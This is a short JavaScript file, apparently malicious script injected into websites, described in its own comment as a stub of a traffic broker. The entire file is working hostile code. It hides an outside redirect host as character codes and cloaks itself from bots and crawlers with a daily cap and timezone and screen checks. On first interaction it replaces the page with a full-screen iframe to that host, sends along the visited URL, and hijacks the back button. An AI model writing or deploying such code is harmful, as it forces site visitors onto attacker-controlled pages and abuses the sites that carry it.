// A smaller stub of the same traffic broker: the first hop's address kept as character
// codes, a once-a-day cap in localStorage, a language and screen check, then on the first
// scroll or tap the page is replaced by a full-screen frame and the back button is
// hijacked so leaving sends the visitor to the next hop as well.
;(function (w, d, n) {
  var c = [104,116,116,112,115,58,47,47,116,100,115,45,104,111,112,46,105,110,118,97,108,105,100,47,105,110,46,112,104,112,63,107,101,121,61];
  var u = "";
  for (var i = 0; i < c.length; i++) u += String.fromCharCode(c[i]);
  var last = +(w.localStorage.getItem("wp_rc_t") || 0);
  if (Date.now() - last < 864e5) return;
  if (w.screen.width < 320 || !n.language || /bot|preview|facebookexternalhit/i.test(n.userAgent)) return;
  var off = new Date().getTimezoneOffset();
  if (off < -180 || off > 480) return;
  var fired = false;
  function fire() {
    if (fired) return;
    fired = true;
    w.localStorage.setItem("wp_rc_t", String(Date.now()));
    var next = u + "a91e0&tz=" + off + "&src=" + encodeURIComponent(w.location.href);
    d.body.innerHTML = "";
    d.body.style.margin = "0";
    var fr = d.createElement("iframe");
    fr.setAttribute("src", next);
    fr.setAttribute("style", "border:none;width:100%;height:100%;position:fixed;inset:0;z-index:999999");
    d.body.appendChild(fr);
    w.history.pushState({ r: 1 }, "", w.location.href);
    w.addEventListener("popstate", function () { w.location.replace(next + "&b=1"); });
  }
  w.addEventListener("scroll", fire, { once: true, passive: true });
  d.addEventListener("touchstart", fire, { once: true, passive: true });
  d.addEventListener("click", fire, { once: true });
})(window, document, navigator);
